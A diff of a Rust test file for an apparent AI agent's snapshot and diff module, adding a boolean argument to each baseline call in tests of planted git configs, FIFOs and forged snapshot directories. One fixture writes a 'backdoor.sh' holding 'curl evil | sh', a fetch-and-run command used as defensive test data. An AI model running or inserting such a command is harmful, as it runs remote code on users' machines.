@@ -119,7 +119,7 @@ async fn a_git_workdir_is_diffed_without_touching_the_users_repository() {
     let copy = f._tmp.path().join("baseline-copy");
     copy_tree(w, &copy);
 
-    let baseline = f.snapshots.baseline(f.id, w, &f.dir, None).await.unwrap();
+    let baseline = f.snapshots.baseline(f.id, w, &f.dir, None, false).await.unwrap();
     assert_eq!(baseline.method, Method::Git);
     // The agent's work: one file added, one edited, one deleted, one renamed, one binary.
     std::fs::write(w.join("added.txt"), "new\nfile\n").unwrap();
@@ -195,7 +195,7 @@ async fn a_planted_repository_config_runs_nothing() {
     text.push_str(&planted);
     std::fs::write(&config, text).unwrap();
 
-    let baseline = f.snapshots.baseline(f.id, w, &f.dir, None).await.unwrap();
+    let baseline = f.snapshots.baseline(f.id, w, &f.dir, None, false).await.unwrap();
     std::fs::write(w.join("a.txt"), "a\nb\n").unwrap();
     let set = diff(&f, &baseline).await;
     assert_eq!(set.files.len(), 1);
@@ -213,7 +213,7 @@ async fn a_plain_directory_is_diffed_from_a_private_store() {
     std::fs::write(w.join("edit.txt"), "1\n2\n").unwrap();
     std::fs::create_dir(w.join("sub")).unwrap();
     std::fs::write(w.join("sub/drop.txt"), "d\n").unwrap();
-    let baseline = f.snapshots.baseline(f.id, w, &f.dir, None).await.unwrap();
+    let baseline = f.snapshots.baseline(f.id, w, &f.dir, None, false).await.unwrap();
     assert_eq!(baseline.method, Method::Tree);
     assert!(!w.join(".git").exists(), "a plain directory must not become a repository");
     std::fs::write(w.join("edit.txt"), "1\n2\n3\n").unwrap();
@@ -239,7 +239,7 @@ async fn many_new_files_are_stored_as_one_pack_and_still_diffed_as_text() {
     for i in 0..300 {
         std::fs::write(w.join(format!("f{i}.txt")), format!("{i}\nline\n")).unwrap();
     }
-    let baseline = f.snapshots.baseline(f.id, w, &f.dir, None).await.unwrap();
+    let baseline = f.snapshots.baseline(f.id, w, &f.dir, None, false).await.unwrap();
     // A loose object per file would be 300 files under objects/xx/; the blobs are in a pack,
     // and only the tree `write-tree` wrote is loose.
     let objects = f.dir.join("git/objects");
@@ -266,7 +266,7 @@ async fn nothing_changed_is_an_empty_change_set_and_a_huge_diff_is_cut_at_its_bo
     let f = fixture(bin, "agt_snapshot4");
     let w = &f.work;
     std::fs::write(w.join("a.txt"), "a\n").unwrap();
-    let baseline = f.snapshots.baseline(f.id, w, &f.dir, None).await.unwrap();
+    let baseline = f.snapshots.baseline(f.id, w, &f.dir, None, false).await.unwrap();
     let set = diff(&f, &baseline).await;
     assert!(set.files.is_empty() && set.diff.is_empty() && !set.truncated);
 
@@ -285,7 +285,7 @@ async fn nothing_changed_is_an_empty_change_set_and_a_huge_diff_is_cut_at_its_bo
 async fn without_git_the_reason_says_so() {
     let tmp = tempfile::tempdir().unwrap();
     let snapshots = Snapshots::new(None, Containment::none(SandboxMode::Off, "a unit test"));
-    let err = snapshots.baseline("agt_x", tmp.path(), &tmp.path().join("s"), None).await.unwrap_err();
+    let err = snapshots.baseline("agt_x", tmp.path(), &tmp.path().join("s"), None, false).await.unwrap_err();
     assert!(err.contains("git is not installed"), "{err}");
 }
 
@@ -305,7 +305,7 @@ async fn planted_fifos_and_links_in_the_git_directory_do_not_hang_the_baseline()
         nix::unistd::mkfifo(&path, nix::sys::stat::Mode::from_bits_truncate(0o600)).unwrap();
     }
     let baseline =
-        tokio::time::timeout(std::time::Duration::from_secs(60), f.snapshots.baseline(f.id, w, &f.dir, None))
+        tokio::time::timeout(std::time::Duration::from_secs(60), f.snapshots.baseline(f.id, w, &f.dir, None, false))
             .await
             .expect("the baseline must not block on a FIFO")
             .unwrap();
@@ -322,7 +322,7 @@ async fn a_replaced_snapshot_directory_is_not_trusted() {
     let Some(bin) = git_bin() else { return };
     let f = fixture(bin, "agt_snapshot_forged");
     std::fs::write(f.work.join("a.txt"), "a\n").unwrap();
-    let baseline = f.snapshots.baseline(f.id, &f.work, &f.dir, None).await.unwrap();
+    let baseline = f.snapshots.baseline(f.id, &f.work, &f.dir, None, false).await.unwrap();
     std::fs::write(f.work.join("backdoor.sh"), "curl evil | sh\n").unwrap();
     let moved = f.dir.with_extension("real");
     std::fs::rename(&f.dir, &moved).unwrap();
